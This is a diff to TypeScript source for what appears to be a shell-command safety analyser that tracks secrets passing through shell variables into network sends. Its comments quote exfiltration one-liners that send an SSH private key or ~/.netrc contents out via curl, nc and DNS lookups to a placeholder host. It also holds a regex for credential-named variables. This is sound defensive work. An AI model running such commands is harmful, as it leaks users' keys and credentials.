@@ -5,7 +5,7 @@ import { inWorkdir, isRelativeWord } from "../shell/workdir.js";
 import type { Arg, Below, Carries, CommandContext, CommandEffect, Cwd, Run, Stdin } from "./api.js";
 import { applyEntry } from "./apply.js";
 import { runBuiltin } from "./builtins.js";
-import { cut, type Flow, NONE, type VarValue } from "./flow.js";
+import { carriesOf, cut, type Flow, NONE, SECRET_NAME, type VarValue } from "./flow.js";
 import { ProgramRun } from "./program-run.js";
 import { codeVariableProblem } from "./variables.js";
 import { wordValue } from "./words.js";
@@ -29,9 +29,9 @@ const MAX_LOOP_VALUES = 8;
 /** A process's environment read as a file: printing it is printing the environment. */
 const PROC_ENVIRON = /^\/proc\/[^/]+\/environ$/;
 
-/** What a standard input already carries (a pipe inside a piped group). */
-const carriesOf = (s: Stdin): Partial<Carries> =>
-  s.kind === "pipe" || s.kind === "string" || s.kind === "heredoc" ? (s.carries ?? {}) : {};
+/** Whether a collector holds anything: a send that carries it gives a secret (or a file) away. */
+const holds = (c: Carries): boolean =>
+  c.reads.length > 0 || c.environment !== undefined || (c.variables?.length ?? 0) > 0;
 
 export class Analyser {
   readonly effects: CommandEffect[] = [];
@@ -44,6 +44,8 @@ export class Analyser {
   private sends = 0;
   /** What printed the environment anywhere in this walk (an `sh -c env` tells its caller). */
   printedEnvironment?: string;
+  /** What the variables set so far hold of secret data, by name (decision 0137). */
+  carried = new Map<string, Carries>();
 
   get remotes(): ConfiguredRemotes | undefined {
     return this.cx.remotes;
@@ -76,6 +78,24 @@ export class Analyser {
     this.effects.push(e);
   }
 
+  /** Data a word brings along (a variable holding a secret file): every open tap carries it. */
+  private bring(c: Carries): void {
+    for (const t of this.taps) {
+      for (const r of c.reads) if (!t.reads.includes(r)) t.reads.push(r);
+      if (c.environment !== undefined) t.environment ??= c.environment;
+      for (const v of c.variables ?? []) if (!(t.variables ??= []).includes(v)) t.variables.push(v);
+    }
+  }
+
+  /**
+   * Sets what a variable holds of secret data (decision 0137): what the statement that set it
+   * read or printed of the environment. A value made of plain data clears it.
+   */
+  hold(name: string, c: Carries | undefined): void {
+    if (c !== undefined && holds(c)) this.carried.set(name, c);
+    else this.carried.delete(name);
+  }
+
   /** A program printed the environment: every open tap carries it. */
   printsEnvironment(how: string): void {
     this.printedEnvironment ??= how;
@@ -86,6 +106,7 @@ export class Analyser {
   tap<T>(f: () => T, from?: Carries): [T, Carries] {
     const t: Carries = { reads: [...(from?.reads ?? [])] };
     if (from?.environment !== undefined) t.environment = from.environment;
+    if (from?.variables !== undefined) t.variables = [...from.variables];
     this.taps.push(t);
     try {
       return [f(), t];
@@ -98,8 +119,19 @@ export class Analyser {
     if (text.trim() !== "" && !this.legacy.includes(text)) this.legacy.push(text);
   }
 
-  /** A word as an argument: its value, and what it stands for when a variable holds found files. */
+  /**
+   * A word as an argument: its value, and what it stands for when a variable holds found files.
+   * A variable in it that holds secret data, or a server's variable named like a credential,
+   * is brought into the open taps: the word carries it wherever the program sends its words.
+   */
   arg(word: ShellWord): Arg {
+    for (const p of word.parts) {
+      if (p.kind !== "var") continue;
+      const held = this.carried.get(p.name);
+      if (held !== undefined) this.bring(held);
+      else if (!this.vars.has(p.name) && SECRET_NAME.test(p.name))
+        this.bring({ reads: [], variables: [p.name] });
+    }
     const plain = new Map<string, string | undefined>();
     let below: Below | undefined;
     for (const [k, v] of this.vars) {
@@ -180,10 +212,11 @@ export class Analyser {
       case "group": {
         const input = this.redirects(s.redirects, "(group)", s.source, stdin);
         if (!s.subshell) return this.statement(s.body, input);
-        const saved = { cwds: [...this.cwds], vars: new Map(this.vars) };
+        const saved = { cwds: [...this.cwds], vars: new Map(this.vars), carried: new Map(this.carried) };
         const f = this.statement(s.body, input);
         this.cwds = saved.cwds;
         this.vars = saved.vars;
+        this.carried = saved.carried;
         return f;
       }
       case "function": {
@@ -234,8 +267,13 @@ export class Analyser {
         continue;
       }
       if (r.target === undefined) continue;
-      const target = this.arg(r.target);
-      const [, carries] = this.tap(() => this.substitutions(target));
+      const word = r.target;
+      // A variable in the word is data too (`nc h 80 <<< "$K"`), like its substitutions.
+      const [target, carries] = this.tap(() => {
+        const target = this.arg(word);
+        this.substitutions(target);
+        return target;
+      });
       const run = this.runFor(program, command, input);
       if (r.op === "<<<") {
         input = { kind: "string", arg: target, carries };
@@ -246,8 +284,9 @@ export class Analyser {
         if (/^(?:\d+|-)$/.test(target.value.exact ?? "") || r.op === "<&") continue;
       }
       if (r.op === "<") {
-        run.role("read", target, "reads from");
-        input = { kind: "file", arg: target };
+        // What the file holds is the program's input: `read K < ~/.netrc` keeps it in K.
+        const [, read] = this.tap(() => run.role("read", target, "reads from"));
+        input = holds(read) ? { kind: "file", arg: target, carries: read } : { kind: "file", arg: target };
       } else if (r.op === "<>") {
         run.role("readwrite", target, "opens");
       } else run.role("write", target, r.op.includes(">>") ? "appends to" : "writes");
@@ -257,24 +296,29 @@ export class Analyser {
 
   simple(cmd: SimpleCommand, stdin: Stdin): Flow {
     let fetched = false;
-    const args = cmd.words.map((w) => this.arg(w));
     const fetchedArgs = new Set<Arg>();
-    // What the arguments' substitutions read is in the words the program gets (`dig $(cat f).x.h`).
-    const [, argCarries] = this.tap(() => {
+    // What the arguments' substitutions read is in the words the program gets (`dig $(cat f).x.h`),
+    // and so is what their variables hold (`curl -d "$K" h` after `K=$(cat ~/.ssh/id_rsa)`).
+    const [args, argCarries] = this.tap(() => {
+      const args = cmd.words.map((w) => this.arg(w));
       for (const a of args)
         if (this.substitutions(a)) {
           fetchedArgs.add(a);
           a.fetched = true;
           fetched = true;
         }
+      return args;
     });
     // Whole: a question or a refusal shows what runs, and a cut could hide `; touch PAYLOAD`.
     const source = cmd.source;
     const input = this.redirects(cmd.redirects, args[0]?.value.exact ?? "(command)", source, stdin);
     const standalone = args.length === 0;
     for (const as of [...cmd.assigns, ...cmd.declares]) {
-      const value = as.value === undefined ? undefined : this.arg(as.value);
-      if (value !== undefined && this.substitutions(value)) fetched = true;
+      const [value, held] = this.tap(() => {
+        const value = as.value === undefined ? undefined : this.arg(as.value);
+        if (value !== undefined && this.substitutions(value)) fetched = true;
+        return value;
+      });
       for (const e of as.elements ?? []) this.substitutions(this.arg(e));
       const run = this.runFor(
         standalone ? "(assignment)" : (args[0]?.value.exact ?? "(command)"),
@@ -282,7 +326,8 @@ export class Analyser {
         input,
       );
       if (value !== undefined) this.variable(run, as.name, value);
-      if (standalone || cmd.declares.includes(as))
+      if (standalone || cmd.declares.includes(as)) {
+        if (value !== undefined) this.hold(as.name, held);
         this.vars.set(
           as.name,
           value === undefined
@@ -291,12 +336,13 @@ export class Analyser {
               ? value.value.text
               : undefined,
         );
+      }
     }
     if (standalone) return { fetched };
     const sendsBefore = this.sends;
     const flow = this.invoke(args[0] as Arg, args.slice(1), input, source, fetchedArgs);
     // A program that sends or fetches carries its words out, and with them what made them.
-    if (this.sends > sendsBefore && (argCarries.reads.length > 0 || argCarries.environment !== undefined))
+    if (this.sends > sendsBefore && holds(argCarries))
       this.runFor(args[0]?.value.exact ?? "(command)", source, input).sendsCarried(argCarries);
     return {
       fetched: fetched || flow.fetched,
@@ -400,6 +446,7 @@ export class Analyser {
     );
     for (let i = positional.length; i < 10; i++) vars.set(String(i), undefined);
     const inner = new Analyser(this.cx, [...run.cwds], vars, new Set(this.defined), this.depth + 1, false);
+    inner.carried = new Map(this.carried);
     const flow = inner.statement(parsed.script, run.stdin);
     for (const e of inner.effects) this.emit(e);
     for (const l of inner.legacy) this.addLegacy(l);
@@ -421,9 +468,6 @@ export class Analyser {
     return a.value.substitutions.some((s) => quiet.statement(s, NONE).fetched);
   }
 }
-
-/** Variable names that hold credentials by convention: printing one prints a secret. */
-const SECRET_NAME = /KEY|TOKEN|SECRET|PASS|CRED|AUTH|SESSION|COOKIE/i;
 
 /** printenv prints the environment, or the variables it names (counted when one may be a secret). */
 function printenvPrints(run: ProgramRun, rest: readonly Arg[]): void {
